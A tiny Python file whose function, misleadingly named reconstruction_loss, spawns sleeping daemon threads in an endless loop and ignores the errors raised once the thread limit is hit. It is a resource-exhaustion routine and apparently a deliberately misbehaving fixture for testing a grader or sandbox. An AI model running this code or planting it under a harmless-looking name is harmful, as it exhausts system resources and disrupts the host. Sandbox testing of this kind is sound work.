"""Starts threads for ever."""

import threading
import time


def reconstruction_loss(A, R):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            pass
